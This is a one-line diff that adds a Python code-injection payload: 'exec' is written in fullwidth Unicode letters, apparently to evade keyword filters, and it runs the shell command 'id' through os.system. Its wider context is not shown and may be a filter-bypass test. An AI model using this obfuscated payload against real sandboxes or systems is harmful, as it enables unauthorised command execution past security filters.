@@ -1,0 +1,1 @@
+ｅｘｅｃ("import os; os.system('id')")
